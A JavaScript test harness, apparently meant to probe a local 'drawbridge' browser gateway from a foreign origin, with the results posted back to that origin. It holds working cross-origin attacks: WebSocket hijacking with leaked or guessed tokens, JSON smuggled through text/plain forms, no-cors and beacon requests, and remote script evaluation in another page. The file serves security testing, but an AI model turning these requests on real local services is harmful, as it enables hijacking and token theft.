// Tries all that the gateway has for its own pages, and reports what came of each try: '' for nothing. Its address says:
//   target   the gateway
//   foreign  the foreign site, which takes the report
//   token    the gateway's page token, as if it had leaked
//   tester   the tester's token
//   page     the id of a page that speaks to the gateway
'use strict';

const query = new URLSearchParams(location.search);
const [target, token, tester, victim] = ['target', 'token', 'tester', 'page'].map(name => query.get(name));
const own = target + '/__drawbridge__';
const guessed = '0123456789abcdef0123456789abcdef';
const patience = 4000;

/// Opens a channel, and calls the handler by it.
const channel = (way, protocols, id) => new Promise(done => {
    const socket = new WebSocket(own.replace('http', 'ws') + '/channel', protocols);
    socket.onerror = () => done('');
    socket.onopen = () => {
        socket.send(JSON.stringify({ hello: { page: id, life: 1, n: 0, epoch: '', received: 0, bridges: [], url: location.href } }));
        socket.send(JSON.stringify({ life: 1, up: [[1, { call: 'note', data: way }]] }));
        setTimeout(() => socket.close(), 500);
    };
    socket.onclose = event => done(event.wasClean ? 'open' : '');
});

/// A page id of our own, as long as it has to be.
const id = digit => digit.repeat(32);

const read = options => path => fetch(path, options).then(answer => answer.text());

/// What goes by `messages`, in a body of any type: it needs no header, and so no preflight.
const messages = (way, page) => JSON.stringify({ page, life: 1, token, up: [[1, { call: 'note', data: way }]] });
const call = way => JSON.stringify({ call: 'note', data: way, token, page: victim, life: 1 });

/// The types that need no preflight; none is one, too.
const types = ['', 'text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data'];

const post = (path, body, type, options) => fetch(own + path, {
    method: 'POST', body: new Blob([body], { type }), ...options,
}).then(answer => answer.ok ? 'status ' + answer.status : '');

const synchronous = (method, path, body, headers = {}) => {
    const request = new XMLHttpRequest();
    request.open(method, own + path, false);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.send(body);
    return request.status === 200 ? request.responseText : '';
};

const asynchronous = (method, path, body, headers = {}) => new Promise(done => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(request.responseText);
    request.open(method, own + path);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.send(body);
});

/// Sends a form into a frame: its body is what a text/plain form makes of JSON.
const form = (path, body) => new Promise(done => {
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() }));
    const form = Object.assign(document.createElement('form'), {
        method: 'post', enctype: 'text/plain', action: own + path, target: frame.name,
    });
    const [name, value] = [body.slice(0, -1) + ',"x":"', '"}'];
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
    document.body.append(form);
    frame.onload = () => done(textOf(frame));
    form.submit();
});

const textOf = frame => {
    try {
        return frame.contentWindow.document.documentElement.textContent;
    } catch {
        return '';
    }
};

/// What a script of the gateway's has put on this page.
const script = (path, attributes = {}) => new Promise(done => {
    const before = Reflect.ownKeys(window);
    const element = document.createElement('script');
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.onload = element.onerror = () => {
        const more = Reflect.ownKeys(window).filter(key => !before.includes(key));
        done(more.map(String).join());
    };
    element.src = own + path;
    document.head.append(element);
});

/// Puts a page of the gateway's into a frame, and reaches for what is in it.
const framed = attributes => new Promise(done => {
    const frame = document.createElement('iframe');
    for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
    frame.onload = () => setTimeout(() => {
        let seen = '';
        try {
            seen = frame.contentWindow.document.title;
        } catch {
            // Another origin.
        }
        frame.remove();
        done(seen);
    }, 700);
    document.body.append(frame);
});

const page = target + '/bridges/driven.html';
const tries = {
    'channel without a token': way => channel(way, ['drawbridge'], id('1')),
    'channel without a protocol': way => channel(way, [], id('1')),
    'channel with a guessed token': way => channel(way, ['drawbridge', 'token.' + guessed], id('1')),
    'channel with the token': way => channel(way, ['drawbridge', 'token.' + token], id('2')),
    'channel with the tester\'s token': way => channel(way, ['drawbridge', 'token.' + tester], id('1')),
    'channel of another page': way => channel(way, ['drawbridge', 'token.' + token], victim),

    'token': () => read()(own + '/token'),
    'token blind': () => read({ mode: 'no-cors' })(own + '/token'),
    'token for a page': () => read({ headers: { 'X-Drawbridge-Page': victim } })(own + '/token'),
    'token, synchronously': () => synchronous('GET', '/token', null, { 'X-Drawbridge-Page': victim }),
    'script': () => read()(own + '/page.js'),
    'document': () => read()(page),
    'document with cookies': () => read({ credentials: 'include' })(page),
    'document as a document': () => read({ headers: { Accept: 'text/html' } })(page),
    'pages': () => read()(own + '/pages'),
    'pages with the tester\'s token': () => read({ headers: { 'X-Drawbridge-Token': tester } })(own + '/pages'),
    'pages as a bearer': () => read({ headers: { Authorization: 'Bearer ' + tester } })(own + '/pages'),
    'pages as a bearer without a referrer': () => read({
        headers: { Authorization: 'Bearer ' + tester }, referrerPolicy: 'no-referrer' })(own + '/pages'),
    'pages as a bearer in no language': () => read({
        headers: { Authorization: 'Bearer ' + tester, 'Accept-Language': '*' } })(own + '/pages'),
    'pages, synchronously': () => synchronous('GET', '/pages', null, { Authorization: 'Bearer ' + tester }),
    'pages by XHR': () => asynchronous('GET', '/pages', null, { Authorization: 'Bearer ' + tester }),
    'pages by a stream of events': () => new Promise(done => {
        const source = new EventSource(own + '/pages?token=' + tester);
        source.onmessage = event => done(event.data);
        source.onerror = () => { source.close(); done(''); };
    }),
    'pages by a socket': () => new Promise(done => {
        const socket = new WebSocket(own.replace('http', 'ws') + '/pages', ['drawbridge', 'token.' + tester]);
        socket.onopen = () => done('open');
        socket.onmessage = event => done(event.data);
        socket.onclose = () => done('');
    }),
    'pages by a form': () => form('/pages', JSON.stringify({ token: tester })),
    'evaluate by XHR': () => asynchronous('POST', '/pages/' + victim + '/evaluate', '{"script":"1"}',
        { Authorization: 'Bearer ' + tester }),
    'evaluate by a beacon': async () => void navigator.sendBeacon(
        own + '/pages/' + victim + '/evaluate', JSON.stringify({ script: '1', token: tester })),
    'evaluate by a form': () => form('/pages/' + victim + '/evaluate', JSON.stringify({ script: '1', token: tester })),
    'pages by a worker': () => new Promise(done => {
        const code = `fetch('${own}/pages', { headers: { Authorization: 'Bearer ${tester}' } })
            .then(answer => answer.text(), () => '').then(text => postMessage(text));`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = message => done(message.data);
        worker.onerror = () => done('');
    }),
    'evaluate as a bearer': () => read({
        method: 'POST', headers: { Authorization: 'Bearer ' + tester }, body: '{"script":"1"}',
    })(own + '/pages/' + victim + '/evaluate'),
    'devices as a bearer': () => read({ headers: { Authorization: 'Bearer ' + tester } })(own + '/admissions'),
    'a new link': () => read({ method: 'POST', headers: { Authorization: 'Bearer ' + tester } })(own + '/admissions'),

    'call, synchronously': way => synchronous('POST', '/call', call(way)),
    'call, synchronously, in full': way => synchronous('POST', '/call', call(way),
        { 'X-Drawbridge-Page': id('3'), 'X-Drawbridge-Token': token }),
    'call by a form': way => form('/call', call(way)),
    'messages by a form': way => form('/messages', messages(way, id('4'))),
    'messages in full': way => post('/messages', messages(way, id('5')), 'application/json'),
    'messages by a beacon': async way => void navigator.sendBeacon(own + '/messages', messages(way, id('6'))),
    'messages of another page': way => post('/messages', messages(way, victim), 'text/plain'),
    'a page leaves': () => post('/messages', JSON.stringify({ page: victim, token, leaving: true }), 'text/plain'),
    'evaluate': () => post('/pages/' + victim + '/evaluate', '{"script":"1"}', 'text/plain'),

    'script element': () => script('/page.js?path=/'),
    'script element with the token': () => script('/page.js?path=/&', { 'data-token': token }),
    'script element with CORS': () => script('/page.js?path=/&&', { crossorigin: 'anonymous' }),
    'module': () => script('/page.js?path=/&&&', { type: 'module' }),
    'global': () => script('/global.js?name=query'),
    'framed': () => framed({ src: page }),
    'framed in a sandbox': () => framed({ src: page + '?', sandbox: 'allow-scripts' }),
};
types.forEach((type, place) => {
    tries['call as ' + type] = way => post('/call', call(way), type);
    tries['messages as ' + type] = way => post('/messages', messages(way, id('abcde'[place])), type);
    tries['messages as ' + type + ', blind'] = way =>
        post('/messages', messages(way, id('78901'[place])), type, { mode: 'no-cors', keepalive: true });
});

(async () => {
    const seen = {};
    for (const [way, work] of Object.entries(tries)) {
        const end = new Promise(done => setTimeout(done, patience, ''));
        const own = (async () => String(await work(way) ?? ''))().catch(() => '');
        seen[way] = await Promise.race([own, end]);
    }
    await fetch(`${query.get('foreign')}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
})();
